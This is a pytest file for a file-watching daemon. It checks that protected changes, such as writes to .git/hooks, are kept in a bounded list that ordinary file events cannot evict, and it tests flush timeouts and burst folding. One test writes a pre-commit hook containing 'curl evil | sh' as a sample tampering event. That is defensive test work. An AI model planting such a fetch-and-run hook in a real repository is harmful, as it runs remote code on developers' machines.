"""Protected events are not evicted by ordinary ones: the watch
service keeps them in their own bounded list. A real watcher over a real directory; the
ordinary ring is made small (500) so that 1,500 ordinary files prove the principle in a
few seconds (the daemon's ring holds 10,000, the protected list 2,000)."""

from __future__ import annotations

import asyncio

import pytest
from support.daemon import workspace

from console.daemon.events import EventHub
from console.daemon.policy_source import PolicySource
from console.daemon.watch_service import WatchService
from console.protocol.watch import WatchStatus
from console.store import Store


@pytest.fixture
async def service(tmp_path):
    policy = tmp_path / "policy.toml"
    policy.write_text('tripwire = "alert"\n')
    source = PolicySource(policy)
    source.reload()
    store = Store.open(tmp_path / "history.db")
    svc = WatchService(source, store, EventHub(), recent_size=500, protected_size=50)
    await svc.start()
    yield svc
    await svc.close()
    store.close()


async def wait_until(cond, timeout=10.0):
    loop = asyncio.get_running_loop()
    deadline = loop.time() + timeout
    while not cond():
        assert loop.time() < deadline, "timed out"
        await asyncio.sleep(0.02)


async def test_ordinary_events_do_not_evict_protected_ones(service, tmp_path):
    ws = workspace(tmp_path / "w")
    root = str(ws)
    await service.ensure_root(root)
    (ws / ".git" / "hooks" / "pre-commit").write_text("#!/bin/sh\ncurl evil | sh\n")
    await wait_until(lambda: any(r.path == ".git/hooks/pre-commit" for r in service.protected))
    out = ws / "out"
    out.mkdir()
    for i in range(1500):
        (out / f"f{i}.txt").write_bytes(b"x")
    await wait_until(lambda: sum(1 for r in service.recent if r.path.startswith("out/f")) >= 450)
    await service.watcher.flush(root)
    assert all(not r.protected for r in service.recent)  # the ring holds ordinary ones only now
    protected = list(service.recent_records(protected_only=True))
    assert [r.path for r in protected] == [".git/hooks/pre-commit"]
    merged = list(service.recent_records())
    assert merged[-1].path == ".git/hooks/pre-commit"  # oldest, still listed
    assert service.status(WatchStatus).protected_kept == 1


async def test_the_protected_list_is_bounded(service, tmp_path):
    ws = workspace(tmp_path / "w")
    root = str(ws)
    await service.ensure_root(root)
    hooks = ws / ".git" / "hooks"
    # One file in each of 80 directories: 80 groups, so no flood folds them (floods.py).
    for i in range(80):
        (hooks / f"d{i}").mkdir()
        (hooks / f"d{i}" / "h").write_text("x\n")
    # The 80 creations may be reported in any order: wait for the list to be full with
    # the last one in it, then more must not have made it longer.
    # (Each waits up to half a second for the kernel's account of its writer; on a machine
    # running two suites, 160 changes have taken more than 10 s.)
    await wait_until(
        lambda: len(service.protected) >= 50 and any(r.path == ".git/hooks/d79/h" for r in service.protected),
        timeout=45,
    )
    for i in range(80, 90):
        (hooks / f"d{i}").mkdir()
        (hooks / f"d{i}" / "h").write_text("x\n")
    await wait_until(lambda: any(r.path == ".git/hooks/d89/h" for r in service.protected), timeout=45)
    assert len(service.protected) == 50


async def test_a_watcher_that_never_catches_up_does_not_hold_the_answer(service, tmp_path, caplog):
    """The operation's answer waits for the watcher to catch up, but not forever: a root
    worker that never answers its flush (the fault: a thread stuck in the kernel) costs
    ``catch_up_limit_s``, and the log says which root and shows every thread's stack."""
    ws = workspace(tmp_path / "w")
    root = str(ws)
    await service.ensure_root(root)
    service.watcher._workers[root].flush = lambda done: None  # the fault: done never comes
    service.catch_up_limit_s = 0.3
    service.collect("op-1")
    changes = await asyncio.wait_for(service.changes_of("op-1", root), 10)
    assert changes == []
    [report] = [r for r in caplog.records if "did not catch up" in r.getMessage()]
    assert root in report.getMessage() and "op-1" in report.getMessage()
    assert "thread MainThread" in report.getMessage()


async def test_a_bursts_batches_waiting_for_their_writer_are_one_flood(service, tmp_path):
    """A protected change whose writer the kernel has not named yet waits (up to half a
    second) before it is judged. A burst's folded batches wait side by side; each opened
    a flood of its own when its wait ended, a history row each (25-41 rows for 3,000
    files on a starved machine). Those that end their wait after the first are folded
    into its flood."""
    import time

    from console.store.query import HistoryQuery
    from console.watch.events import ChangeKind, FileEvent

    ws = workspace(tmp_path / "w")
    root = str(ws)
    await service.ensure_root(root)
    if service.watcher.fast_lane != "fanotify+inotify":
        pytest.skip("the wait for the kernel's account needs fanotify (root)")
    group = ".git/hooks/burst"
    now = time.time()
    for n in range(5):
        members = tuple(f"{group}/b{n}{i:03d}" for i in range(50))
        service._on_event(
            FileEvent(
                seq=10_000 + n, at=now, changed_at=now, workspace_root=root, path=group,
                kind=ChangeKind.ADDED, protected=".git/hooks/**", is_dir=False,
                symlink_escape=False, size=None, mode=None, attribution=(),
                source="inotify",
                count=len(members), members=members, group=group,
            )
        )  # fmt: skip
    await wait_until(lambda: not service._background)
    # (the store's writer commits in its own thread: the row may come a moment later)
    await wait_until(lambda: service.store.count(HistoryQuery(kinds=("file_event",))) >= 1)
    await asyncio.sleep(0.3)
    rows = service.store.history(HistoryQuery(kinds=("file_event",), limit=100)).records
    assert [r.event.command for r in rows] == [group]
    [flood] = [r for r in service.recent_records(protected_only=True) if r.path == group]
    assert flood.count == 250
